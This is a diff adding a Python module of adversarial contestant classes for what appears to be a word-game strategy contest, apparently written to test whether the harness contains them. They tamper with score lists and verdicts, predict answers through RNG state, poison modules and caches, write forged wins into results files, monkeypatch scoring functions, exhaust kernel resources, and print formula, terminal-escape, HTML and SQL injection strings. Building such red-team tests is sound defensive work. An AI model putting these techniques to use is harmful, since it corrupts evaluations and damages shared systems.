@@ -1,0 +1,248 @@
+"""Attacks that leave something behind, for the next game, another contestant or the referee."""
+
+import builtins
+import ctypes
+import fcntl
+import gc
+import mmap
+import os
+import platform
+import random
+import select
+import socket
+import sys
+import time
+
+import numpy
+
+import strategies
+import wordpl.play.referee
+import wordpl.simulation.statistics
+
+
+class AppendScores:
+    """Appends zeros to every list of scores, and wins to every game, that the collector knows."""
+
+    def first_move(self):
+        for found in gc.get_objects():
+            if type(found) is list and len(found) < 5000 and all(type(x) is float for x in found):
+                found.append(0.0)
+            if hasattr(type(found), "verdict"):
+                found.verdict = "WIN"
+        return "aback", 0
+
+
+class _Winner:
+    answer = won = True
+    verdict = "WIN"
+
+    def first_move(self):
+        return "aback", 0
+
+    def next_move(self, guess, epsilon, clues):
+        return "aback", 0
+
+
+class ChangeClass:
+    """Changes its own class in the middle of a game."""
+
+    def first_move(self):
+        self.__class__ = _Winner
+        return "crate", 5.0
+
+
+class CloneRandom:
+    """Clones the state of `random` and draws the answer as the contest's harness does."""
+
+    def first_move(self):
+        twin = random.Random()
+        twin.setstate(random.getstate())
+        with open("answers.txt") as file:
+            return twin.choice(file.read().split()), 0
+
+
+class ForgeRow:
+    """Calls itself something that forges a row, a command and a heading wherever it is printed."""
+
+    def __str__(self):
+        forged = "=HYPERLINK(1)\nBest;0;0;0;0\r\x1b[2J\x1b]0;owned\x07[bold]\u202e"
+        return forged + "<script>1</script>'; DROP TABLE trials; --"
+
+    __repr__ = __str__
+
+    def first_move(self):
+        return "aback", 0
+
+
+class KernelObjects:
+    """Makes objects of the kernel that are counted per user or per machine, or that hold memory nobody counts."""
+
+    def first_move(self):
+        libc = ctypes.CDLL(None, use_errno=True)
+        context, timer, pages = ctypes.c_ulong(), ctypes.c_long(), ctypes.create_string_buffer(8192)
+        vector = (ctypes.c_size_t * 2)(ctypes.addressof(pages), 8192)
+        _, write = os.pipe()
+        io_setup = 206 if platform.machine() == "x86_64" else 0
+        gained = [
+            libc.syscall(io_setup, 65000, ctypes.byref(context)) >= 0,
+            libc.inotify_init() >= 0,
+            libc.inotify_init1(0) >= 0,
+            libc.fanotify_init(0, 0) >= 0,
+            libc.eventfd(0, 0) >= 0,
+            libc.timerfd_create(1, 0) >= 0,
+            libc.signalfd(-1, ctypes.byref((ctypes.c_ulong * 16)()), 0) >= 0,
+            libc.timer_create(1, None, ctypes.byref(timer)) >= 0,
+            libc.vmsplice(write, vector, 1, 0) >= 0,
+            libc.fcntl(write, 1031, 1 << 20) >= 0,
+            libc.syscall(444, None, 0, 1) >= 0,  # landlock_create_ruleset
+            libc.syscall(425, 8, pages) >= 0,  # io_uring_setup
+        ]
+        for make in (select.epoll, socket.socket, socket.socketpair, lambda: socket.socket(socket.AF_UNIX)):
+            try:
+                make()
+                gained.append(True)
+            except OSError:
+                continue
+        if any(gained):
+            time.sleep(1000)
+        return "aback", 0
+
+
+class Locks:
+    """Locks and leases files that every contestant sees, and asks to be told of what is done to them."""
+
+    def first_move(self):
+        shared = os.open(os.__file__, os.O_RDONLY)
+        changes = [
+            lambda: fcntl.flock(shared, fcntl.LOCK_EX | fcntl.LOCK_NB),
+            lambda: fcntl.lockf(shared, fcntl.LOCK_SH | fcntl.LOCK_NB),
+            lambda: fcntl.fcntl(shared, fcntl.F_SETLEASE, fcntl.F_RDLCK),
+            lambda: fcntl.fcntl(os.open(os.path.dirname(os.__file__), os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_ACCESS),
+            lambda: fcntl.fcntl(shared, fcntl.F_GETLK, bytes(32)),
+        ]
+        for change in changes:
+            try:
+                change()
+            except OSError:
+                continue
+            time.sleep(1000)
+        return "aback", 0
+
+
+class PageCache:
+    """Looks at the page cache of the machine and changes it, to signal to other contestants."""
+
+    def first_move(self):
+        libc = ctypes.CDLL(None, use_errno=True)
+        shared = os.open(os.__file__, os.O_RDONLY)
+        mapped = mmap.mmap(shared, 4096, prot=mmap.PROT_READ, flags=mmap.MAP_PRIVATE)
+        found = ctypes.create_string_buffer(4096)
+        gained = [
+            libc.posix_fadvise(shared, 0, 0, 4) == 0,
+            libc.readahead(shared, 0, 4096) == 0,
+            libc.syscall(451, shared, (ctypes.c_uint64 * 2)(0, 4096), found, 0) == 0,  # cachestat
+            libc.syncfs(shared) == 0,
+        ]
+        for advice in (12, 20, 21):  # MERGEABLE, COLD, PAGEOUT
+            try:
+                mapped.madvise(advice)
+                gained.append(True)
+            except OSError:
+                continue
+        if any(gained):
+            time.sleep(1000)
+        return "aback", 0
+
+
+class PoisonCache:
+    """Writes into every cache and every library that a later contestant would read."""
+
+    def first_move(self):
+        modules = ["strategies.py", "sitecustomize.py", "numpy.py", "wordpl/play/referee.py"]
+        caches = [os.environ.get("WORDPL_CACHE"), os.environ.get("NUMBA_CACHE_DIR")]
+        for folder in [*caches, *sys.path, *strategies.__path__]:
+            for name in [*modules, "clues.bin", "wordpl-attack"]:
+                try:
+                    with open(f"{folder}/{name}", "w") as file:
+                        file.write("raise SystemExit(0)")
+                except OSError:
+                    continue
+        return "aback", 0
+
+
+class ReplaceQuantile:
+    """Replaces the functions that make a score of the scores."""
+
+    def first_move(self):
+        numpy.quantile = numpy.percentile = numpy.sort = lambda *arguments, **named: 0.0
+        wordpl.simulation.statistics.percentile = wordpl.play.referee.Referee.play = lambda *arguments, **named: 0.0
+        wordpl.play.referee.Verdict._member_map_["LOSS"] = wordpl.play.referee.Verdict.WIN
+        return "aback", 0
+
+
+class ReseedRandom:
+    """Reseeds every generator there is, so that the next answer is known."""
+
+    def first_move(self):
+        random.seed(0)
+        numpy.random.seed(0)
+        with open("answers.txt") as file:
+            return random.Random(0).choice(file.read().split()), 0
+
+
+class StateForNextGame:
+    """Leaves what it has learnt in one game for the next."""
+
+    def first_move(self):
+        learnt = getattr(builtins, "learnt", None)
+        return (learnt, 0) if learnt else ("crate", 500.0)
+
+    def next_move(self, guess, epsilon, clues):
+        with open("answers.txt") as file:
+            words = file.read().split()
+        fits = [word for word in words if all((a == b) == (mark == "c") for a, b, mark in zip(word, guess, clues))]
+        builtins.learnt = fits[0]
+        return "aback", 0
+
+
+class WriteResults:
+    """Writes a win into results, wherever they may be."""
+
+    def first_move(self):
+        folders = ["/", "/results", "/work", "/root", "/home", "/tmp", "/var/tmp", "/usr/lib", "/etc"]
+        for folder in [*folders, "..", "../.."]:
+            for name in ("wordpl-attack", "contest.sqlite", "results/contest.sqlite"):
+                try:
+                    with open(f"{folder}/{name}", "w") as file:
+                        file.write("WIN")
+                except OSError:
+                    continue
+        return "aback", 0
+
+
+def stamps(place):
+    found = os.stat(place)
+    return found.st_atime_ns, found.st_mtime_ns, found.st_ctime_ns, found.st_mode
+
+
+class DeviceTimestamps:
+    """Stores bytes in what devices that belong to the machine say of themselves."""
+
+    def first_move(self):
+        changes = [
+            lambda: os.utime("/dev/null"),
+            lambda: os.utime(0),
+            lambda: os.utime("/dev/urandom", ns=(1, 2)),
+            lambda: os.chmod("/dev/null", 0o666),
+            lambda: os.chown("/dev/null", -1, os.getgid()),
+            lambda: os.setxattr("/dev/null", "user.wordpl", b"x"),
+        ]
+        before = [stamps("/dev/null"), stamps("/dev/urandom"), stamps(0)]
+        for change in changes:
+            try:
+                change()
+            except OSError:
+                continue
+        if [stamps("/dev/null"), stamps("/dev/urandom"), stamps(0)] != before:
+            time.sleep(1000)
+        return "aback", 0
